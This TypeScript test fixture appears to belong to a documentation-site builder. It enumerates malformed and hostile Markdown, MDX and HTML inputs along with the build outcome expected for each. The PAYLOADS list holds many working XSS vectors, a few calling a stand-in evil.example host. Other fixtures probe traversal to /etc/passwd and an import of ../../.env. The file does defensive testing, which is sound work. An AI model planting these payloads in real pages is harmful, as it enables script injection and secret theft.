/**
 * Hostile and broken texts by the row of `docs/trust.md` that answers them: each is one document of one site. `E` fails
 * the build, `W` is a warning, `OK` is published without a word.
 */

import { frontMatter } from './front-matter-rows.ts'
import { matter, of, page, times, type Variant } from './variant.ts'

const deep = (count: number, open: string, close = ''): string => open.repeat(count) + close.repeat(count)

const markdown: Variant[] = [
  ...of('E1', 'W', ['', '\n\n', '\uFEFF']),
  ...of('E2', 'E', [
    Buffer.from([0xcf, 0xf0, 0xe8, 0xe2, 0xe5, 0xf2, 0x2c, 0x20, 0xec, 0xe8, 0xf0]),
    Buffer.from([0x23, 0x20, 0xff, 0x0a]),
    Buffer.from('# a\xc3', 'latin1'),
  ]),
  ...of('E3', 'E', [Buffer.from('\uFEFF# Привет', 'utf16le'), Buffer.from('\uFEFF# a', 'utf16le').swap16()]),
  ...of('E4', 'E', [
    `# a\n\n${'x'.repeat(10_000_000)}`,
    `# a\n\n![x](data:image/png;base64,${'A'.repeat(3_000_000)})\n`,
  ]),
  ...of('P2', 'E', [page(`${deep(400, '> ')}x`), page(times(400, index => `${' '.repeat(index * 2)}- x`).join('\n'))]),
  ...of('P5', 'W', [page('```js\nкод'), page('~~~\nкод'), page('> ```\n> код'), page('- ```\n  код')]),
  ...of('P6', 'W', [
    page('```джаваскрипт\nx\n```'),
    page('```javascrpt\nx\n```'),
    page(`\`\`\`js\n${'x'.repeat(300_000)}\n\`\`\``),
  ]),
  ...of('P7', 'W', [page(':::note\nx'), page(':::noet\nx\n:::'), page(':::note\n:::tip\nx\n:::\n:::')]),
  ...of(
    'P9',
    'W',
    [
      'javascript:alert(1)',
      'JaVaScRiPt:alert(1)',
      '&#106;avascript:alert(1)',
      'vbscript:x',
      'data:text/html,x',
      'data:text/html;base64,eA==',
      'file:///etc/passwd',
    ].flatMap(url => [page(`[x](<${url}>)`), page(`<a href="${url}">x</a>`), page(`![x](<${url}>)`)]),
  ),
  ...of('P9', 'W', [
    page('<a href="java&#9;script:alert(1)">x</a>'),
    page('[x](<java&#9;script:alert(1)>)'),
    page('[x](javascript%3Aalert(1))'),
    page('[x](pathname://javascript:alert(1))'),
    page('![x](pathname://data%3Atext/html,x)'),
  ]),
  ...of('P14', 'W', [
    page('[x][нет]'),
    page('x[^1]'),
    page('[^1]: сноска'),
    page('[x][a]\n\n[a]: /docs\n[a]: https://a.example'),
  ]),
  ...of('P11', 'E', [page('## А {#a}\n\n## Б {#a}')]),
  ...of('P11', 'E', [page('## А {#__zapiski_main}')]),
  ...of('P11', 'W', [page('<div id="__zapiski_state">x</div>'), page('<div id="footnote-label">x</div>')]),
  ...of('P13', 'W', [page('#### x'), page('# Второй')]),
  ...of('P15', 'W', [page('```js\nif (a\u202e) {}\n```'), page('## a\u200bb')]),
  ...of(
    'U3',
    'E',
    [
      '/a?b',
      '/a#b',
      '/a\\b',
      '/%2e%2e/x',
      'C:/x',
      '/a\\0b',
      '//evil.example',
      'https://evil.example/x',
      '/../../x',
    ].map(slug => matter(`title: a\nslug: '${slug}'`)),
  ),
  ...of(
    'U7',
    'E',
    ['./none.md', '../none.md', '@site/none.md', './draft-of-u7.md'].map(path => page(`[x](${path})`)),
  ),
  ...of('U8', 'W', [page('[x](#нет)'), page('[x](#%E0%A4%A)')]),
  ...of('U9', 'E', [
    page('<a href="./none.md">x</a>'),
    page('<map><area href="./none.md"></map>'),
    page('<svg><a href="./none.md"><text>x</text></a></svg>'),
  ]),
  ...of('I1', 'E', [page('![x](./none.png)'), page('<img alt="x" src="./none.png">'), page('![x](/none.png)')]),
  ...of(
    'I8',
    'E',
    ['../../../etc/passwd', '/../etc/passwd', '@site/../x.png'].map(path => page(`![x](${path})`)),
  ),
  ...of('I10', 'W', [page('![](https://i.example/a.png)')]),
  ...of('P10', 'OK', [page('## 🎉\n\n## 🎉\n\n## !!!\n\n## config\n\n## __proto__\n\n## constructor\n\n## cookie')]),
  ...of('P12', 'OK', [page('## 1-я глава\n\n[x](#1-я-глава)')]),
  ...of('P3', 'OK', [page('*a_ '.repeat(500)), page('a**b'.repeat(500)), page('[a](b'.repeat(500))]),
  ...of('P3', 'E', [page('*a_ '.repeat(30_000)), page(':а'.repeat(3_000)), page('&nbsp;'.repeat(20_000))]),
]

/** Payloads of pages: whatever of them is kept, nothing runs. */
export const PAYLOADS: readonly string[] = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img src=x onerror=alert(1)>',
  '<img src=x oNeRrOr=alert(1)>',
  '<img/src=x/onerror=alert(1)>',
  '<img src="x`" onerror="alert(1)">',
  '<svg onload=alert(1)></svg>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<svg><a href="/docs"><animate attributeName="href" values="javascript:alert(1)"/><text>x</text></a></svg>',
  '<svg><a href="/docs"><set attributeName="xlink:href" to="javascript:alert(1)"/><text>x</text></a></svg>',
  '<svg><use href="data:image/svg+xml;base64,PHN2Zz4="/></svg>',
  '<math><mtext href="javascript:alert(1)">x</mtext></math>',
  '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</maction></math>',
  '<iframe src="javascript:alert(1)" title="x"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>" title="x"></iframe>',
  '<iframe src="data:text/html,<script>alert(1)</script>" title="x"></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="javascript:alert(1)">',
  '<form action="javascript:alert(1)"><button>x</button></form>',
  '<form><button formaction="javascript:alert(1)">x</button></form>',
  '<input type="image" src=x onerror="alert(1)">',
  '<input autofocus onfocus=alert(1)>',
  '<details open ontoggle=alert(1)>x</details>',
  '<video><source onerror=alert(1)></video>',
  '<video src=x onerror=alert(1)></video>',
  '<audio src=x onerror=alert(1)></audio>',
  '<body onload=alert(1)>x</body>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<link rel="stylesheet" href="javascript:alert(1)">',
  '<base href="javascript:alert(1)//">',
  '<style>@import "javascript:alert(1)";</style>',
  '<div style="background:url(javascript:alert(1))">x</div>',
  '<table background="javascript:alert(1)"><tr><td>x</td></tr></table>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href=" &#1; java&#x09;script:alert(1)">x</a>',
  '<a href="javascript&colon;alert(1)">x</a>',
  '<a href="JAVASCRIPT&#58;alert(1)">x</a>',
  '[x](javascript:alert(1))',
  '[x](<java\tscript:alert(1)>)',
  '[x](javascript&colon;alert(1))',
  '![x](x "onerror=alert(1)")',
  '![x" onerror="alert(1)](https://i.example/a.png)',
  '<https://a.example/"onmouseover="alert(1)>',
  '[x]: javascript:alert(1)\n\n[x]',
  '`<img src=x onerror=alert(1)>`',
  '```html title="<img src=x onerror=alert(1)>"\n<script>alert(1)</script>\n```',
  '## <img src=x onerror=alert(1)>',
  '| <script>alert(1)</script> |\n| --- |\n| <img src=x onerror=alert(1)> |',
  ':::note[<img src=x onerror=alert(1)>]\nx\n:::',
  '[^1]\n\n[^1]: <img src=x onerror=alert(1)>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<textarea><img src=x onerror=alert(1)></textarea>',
  '<title><img src=x onerror=alert(1)></title>',
  '<xmp><script>alert(1)</script></xmp>',
  '<template><script>alert(1)</script></template>',
  '<!--><script>alert(1)</script>-->',
  '<!-- --!><img src=x onerror=alert(1)>-->',
  '<?xml version="1.0"?><script>alert(1)</script>',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<a href="/docs" ping="https://evil.example/">x</a>',
  '<img name="currentScript"><form name="body"></form><iframe name="config" title="x"></iframe>',
  '<head><script>alert(1)</script></head>',
  '<head><meta http-equiv="refresh" content="0;url=//evil.example/"></head>',
  '<head><link rel="stylesheet" href="//evil.example/x.css" onload="alert(1)"></head>',
]

const html: Variant[] = of(
  'P8',
  'OK',
  PAYLOADS.map(payload => page(payload)),
)

/** A name that the parser cannot write down in what it answers. */
const UNSAYABLE = page('export const A = () => <b id\\,="n">x</b>\n\n<A />')

const mdx: Variant[] = [
  ...of('M1', 'E', [UNSAYABLE], 'mdx'),
  ...of('M1', 'W', [UNSAYABLE]),
  ...of(
    'M1',
    'E',
    ['<div', '<Tabs>', '{', '{a', '<A b={>x</A>', '{1 +}', 'x </div>', 'import a from', "export const a = '"].map(
      body => page(body),
    ),
    'mdx',
  ),
  ...of(
    'M2',
    'E',
    ['a <5 b', '<https://a.example>', '<a b="c>x</a>'].map(body => page(body)),
    'mdx',
  ),
  ...of(
    'M4',
    'E',
    [
      '<None />',
      '<None.Inner />',
      "import A from './none'\n\n<A />",
      "import A from 'no-such-package'\n\n<A />",
      '<tabs />x<Tab />',
    ].map(body => page(body)),
    'mdx',
  ),
  ...of(
    'M5',
    'E',
    [
      '{(() => { throw new Error("x") })()}',
      'export const A = () => { throw new Error("x") }\n\n<A />',
      '{null.x}',
      '{none}',
    ].map(body => page(body)),
    'mdx',
  ),
  ...of(
    'M11',
    'E',
    ['export default 1\n\nexport default 2'].map(body => page(body)),
    'mdx',
  ),
  ...of(
    'P17',
    'E',
    ["import a from '!!raw-loader!../../.env'\n\n{a}", "import A from '../../.env.md'\n\n<A />"].map(body =>
      page(body),
    ),
    'mdx',
  ),
]

export const VARIANTS: readonly Variant[] = [...frontMatter, ...markdown, ...html, ...mdx]
